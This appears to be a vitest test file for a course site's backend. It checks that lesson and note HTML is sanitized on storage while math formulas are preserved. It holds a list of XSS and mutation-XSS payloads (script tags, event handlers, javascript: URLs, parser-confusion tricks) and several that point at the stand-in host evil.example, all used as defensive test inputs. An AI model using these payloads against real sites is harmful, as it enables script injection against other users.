// HTML of lessons and notes is sanitized when it is stored: nothing that could run or load
// anything, and formulas unchanged.
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Backend, startBackend, type Visitor } from './kit.ts';

let backend: Backend;
let admin: Visitor;
beforeAll(async () => {
  backend = await startBackend();
  admin = await backend.admin();
});
afterAll(() => backend.close());

const { document } = new JSDOM('').window;
const parse = (html: string) => Object.assign(document.createElement('div'), { innerHTML: html });
const ALLOWED =
  /^(h[234]|p|[uo]l|li|strong|em|u|su[bp]|table|thead|tbody|t[rhd]|caption|blockquote|br|code|hr|figure|figcaption|img|a)$/i;
const OF_PICTURES = /^(src|alt|width|height)$/;

/** Images of this site only. */
const isOfPicture = (tagName: string, name: string, value: string) =>
  tagName === 'IMG' && OF_PICTURES.test(name) && (name !== 'src' || value.startsWith('/media/'));

/** https links, and links for mail and phone. */
const isOfLink = (tagName: string, name: string, value: string) =>
  tagName === 'A' && name === 'href' && /^(https:|mailto:|tel:)/.test(value);

/** Everything in a browser's DOM of it that is not on the allow-list. */
function dangerOf(html: string): string[] {
  return [...parse(html).querySelectorAll('*')].flatMap(({ tagName, attributes }) => [
    ...(ALLOWED.test(tagName) ? [] : [tagName]),
    ...[...attributes]
      .filter(
        ({ name, value }) =>
          !/^(colspan|rowspan|scope)$/.test(name) &&
          !isOfPicture(tagName, name, value) &&
          !isOfLink(tagName, name, value),
      )
      .map(({ name }) => `${tagName} ${name}`),
  ]);
}

const fields = {
  content: '/course/lesson/free10-motion-lesson-1',
  contentDetails: '/course/content/free10-motion-note-1',
};
/** Writes it to a lesson and a note, and reads both back. */
async function storeText(html: string): Promise<string[]> {
  const reader = {
    content: '/course/lessons/free10-motion-lesson-1',
    contentDetails: '/course/free10-motion-note-1/contentdetails',
  };
  const texts: string[] = [];
  for (const field of ['content', 'contentDetails'] as const) {
    const response = await admin.put(fields[field], { [field]: html });
    expect(response.status, response.text).toBe(200);
    const read = (await admin.get(reader[field])).body[field];
    expect(read).toBe(response.body[field]);
    texts.push(read);
  }
  return texts;
}

describe('scripts and other active content', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="/media/diagrams/x.svg" onerror="alert(1)" srcset="//evil.example/x.png 2x">',
    '<img src="/media/../auth/logout"><img src="//evil.example/x.png"><img src="https://evil.example/x.png"><img alt="x">',
    '<img src="x" onerror="alert(1)" alt="$">',
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="//evil.example">x</a><a href="http://evil.example" onclick="alert(1)" target="x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<template><img src=x onerror=alert(1)></template>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
    '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel=stylesheet href="//evil.example">',
    '<style>@import "//evil.example"; * { display: none }</style>',
    '<p/onmouseover=alert(1)>x</p>',
    '<td colspan="2" onmouseover="alert(1)">x</td>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<p title="$<b$" onclick="$>alert(1)$">x</p>',
    '$<img src=x onerror=alert(1)>$',
    '$$</p><script>alert(1)</script><p>$$',
    '<p>$x</p><svg onload="alert(1)">$</p>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ])('is not stored of %s', async (html) => {
    for (const text of await storeText(html)) expect(dangerOf(text), text).toEqual([]);
  });
});

describe('the stored text', () => {
  it('is everything of the allow-list as it was written', async () => {
    const html =
      '<h2>Motion</h2><p>A <strong>fast</strong> <em>one</em>, H<sub>2</sub>O</p><ul><li>one</li></ul>' +
      '<table><tbody><tr><th colspan="2" scope="col">v</th></tr></tbody></table><blockquote><code>x</code></blockquote>';
    expect(await storeText(html)).toEqual([html, html]);
  });

  it('is a link to a page, an e-mail address or a phone', async () => {
    const html =
      '<p><a href="https://example.com/?a=1&amp;b=2">x</a> <a href="mailto:a@example.com">y</a> <a href="tel:16123">z</a></p>';
    expect(await storeText(html)).toEqual([html, html]);
  });

  it('is a diagram of this site with its text and size', async () => {
    const image =
      '<img src="/media/diagrams/right-triangle.svg" alt="ত্রিভুজ" width="360" height="205" />';
    const html = `<figure>${image}<figcaption>লম্ব, ভূমি ও অতিভুজ</figcaption></figure>`;
    expect(await storeText(html)).toEqual([html, html]);
  });

  it.each([
    '$v = s/t$',
    '$a<b$ and $y>z$, then more',
    '$x<p$ and text',
    '$$\\frac{a}{b} < \\text{b} & c$$',
    'costs \\$5, and $n<m$',
    'আলোর বেগ $c<3\\times10^8$',
  ])('keeps formulas: %s', async (formula) => {
    for (const text of await storeText(`<p>${formula}</p>`))
      expect(parse(text).textContent).toBe(formula);
  });

  it('keeps markup between prices', async () => {
    const html = '<p>From $5 <em>now</em> to $6</p>';
    expect(await storeText(html)).toEqual([html, html]);
  });

  it('does not change when it is stored again', async () => {
    const [once = ''] = await storeText('<p>$a<b$ &amp; <b>c</b> &nbsp; "d"</p>');
    expect(await storeText(once)).toEqual([once, once]);
  });

  it('is at most 20,000 characters of a lesson and 50,000 of a note', async () => {
    for (const [field, limit] of [
      ['content', 20_000],
      ['contentDetails', 50_000],
    ] as const) {
      expect((await admin.put(fields[field], { [field]: 'x'.repeat(limit) })).status).toBe(200);
      expect((await admin.put(fields[field], { [field]: 'x'.repeat(limit + 1) })).status).toBe(400);
      expect((await admin.put(fields[field], { [field]: 'x'.repeat(1_048_576) })).status).toBe(413);
    }
  });
});
